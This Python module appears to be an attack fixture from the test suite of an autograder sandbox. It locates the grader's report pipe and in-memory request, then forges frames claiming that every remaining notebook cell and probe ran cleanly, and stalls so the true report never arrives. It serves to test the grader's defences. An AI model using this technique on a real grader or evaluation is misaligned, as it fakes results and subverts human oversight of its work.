"""Pasted into an attack where it says {channel}: the report pipe, found as a student finds it.

A hostile student who has read `grader.sandbox.inside.submission` knows that the cell runner
reports each cell on a pipe whose write end is open in the submission's own process, in frames of a
4-byte big-endian length and a JSON object with a "kind" (start, cell, probe, finished), and
that the request (cells, probes, seed) is still in memory. This finds both and writes frames of
its own.
"""

import fcntl as _fcntl
import gc as _gc
import json as _json
import os as _os
import stat as _stat
import struct as _struct
import time as _time


def _find_report_pipe() -> int:
    """The write end of a pipe: the runner's report channel (stdin, stdout, stderr are null)."""
    for fd in range(3, 1024):
        try:
            if _stat.S_ISFIFO(_os.fstat(fd).st_mode) and (
                _fcntl.fcntl(fd, _fcntl.F_GETFL) & _os.O_ACCMODE == _os.O_WRONLY
            ):
                return fd
        except OSError:
            continue
    raise RuntimeError("no report pipe found")


REPORT = _find_report_pipe()
REQUEST = next(
    o
    for o in _gc.get_objects()
    if isinstance(o, dict) and {"cells", "probes", "limits"} <= o.keys()
)
HERE = next(index for index, source in REQUEST["cells"] if "REPORT = _find_report_pipe()" in source)
PROBES_AT = (REQUEST.get("probes") or {}).get("at", {})


def frame(kind: str, **fields) -> bytes:
    """One well-formed frame, as `grader.sandbox.wire.encode` makes it."""
    body = _json.dumps({"kind": kind, **fields}).encode()
    return _struct.pack(">I", len(body)) + body


def send_raw(data: bytes) -> None:
    """Write bytes to the report pipe, however many writes it takes."""
    view = memoryview(data)
    while view:
        view = view[_os.write(REPORT, view) :]


def send(kind: str, **fields) -> None:
    """Write one frame to the report pipe."""
    send_raw(frame(kind, **fields))


def forge_the_rest(observations=lambda grade_id: None, outputs=()) -> None:
    """Report this cell and every later one as run without an error, each test with the probe
    report `observations(grade_id)` (none if None), then "finished"; then wait to be killed, so
    that the runner's own report of this cell never comes."""
    data = frame("cell", cell=HERE, outputs=list(outputs), count=1, truncated=False)
    for index, _ in REQUEST["cells"]:
        if index > HERE:
            data += frame("start", cell=index)
            data += frame("cell", cell=index, outputs=list(outputs), count=index, truncated=False)
            grade_id = PROBES_AT.get(str(index))
            seen = observations(grade_id) if grade_id else None
            if seen is not None:
                data += frame("probe", test=grade_id, observations=seen)
    send_raw(data + frame("finished"))
    _time.sleep(3600)
